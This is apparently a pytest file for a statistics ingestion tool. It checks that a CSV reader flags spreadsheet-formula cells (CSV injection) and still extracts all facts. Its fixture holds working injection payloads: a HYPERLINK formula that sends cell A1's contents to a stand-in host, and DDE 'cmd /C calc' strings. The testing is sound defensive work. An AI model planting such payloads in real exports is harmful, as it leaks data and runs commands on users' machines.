"""The CSV table reader flags cells that a spreadsheet would run as formulas (CSV injection) and loses nothing:
the document loads, its facts are extracted, and the warning is kept in its note (dim_source.note)."""

from __future__ import annotations

from ingest_files import write_doc

from mfgstats.extract.grid_tables import table_facts
from mfgstats.ingest import load_document

HOSTILE_CSV = """indicator,region,period,value,unit,status
"=HYPERLINK(""http://example.invalid/?x=""&A1,""规上工业企业"")",洛阳市,2020,1783,家,actual
@SUM(1+9)*cmd|' /C calc'!A0,洛阳市,2020,1500.5,亿元,actual
"\t=cmd|' /C calc'!A0",洛阳市,2020,2.4,%,actual
-其中：制造业,洛阳市,2020,1200,亿元,actual
规上工业增加值增速,洛阳市,2020,-3.2,%,actual
"""

PLAIN_CSV = """indicator,region,period,value,unit,status
规上工业增加值增速,洛阳市,2020年1-8月,-3.2,%,实际
规上工业营业收入,洛阳市,2025,">=1,200",亿元,目标
规上工业营业收入,洛阳市,2019,-,亿元,actual
研发投入强度,洛阳市,2020,+0.3,%,actual
"""


def test_formula_like_cells_are_flagged_and_nothing_is_lost(raw_dir):
    doc = load_document(write_doc(raw_dir, "hostile.csv", HOSTILE_CSV, {"note": "from the bureau"}), raw_dir)
    note = doc.note.splitlines()
    assert note[0] == "from the bureau"  # the sidecar's note is kept, the warning follows it
    assert note[1].startswith("warning: 4 table cell(s) begin like a spreadsheet formula (= + - @): line 2, column 1: ")
    assert "line 3, column 1: \"@SUM(1+9)*cmd|' /C calc'!A0\"" in note[1]
    assert "; and 1 more. Exports quote them as text; check the source table." in note[1]
    assert len(doc.note) < 600
    facts = table_facts(doc)
    assert [f.value for f in facts] == [1783, 1500.5, 2.4, 1200, 3.2]  # every row still read


def test_numbers_and_empty_markers_are_not_formulas(raw_dir):
    doc = load_document(write_doc(raw_dir, "plain.csv", PLAIN_CSV, {}), raw_dir)
    assert doc.note is None
    assert len(table_facts(doc)) == 3
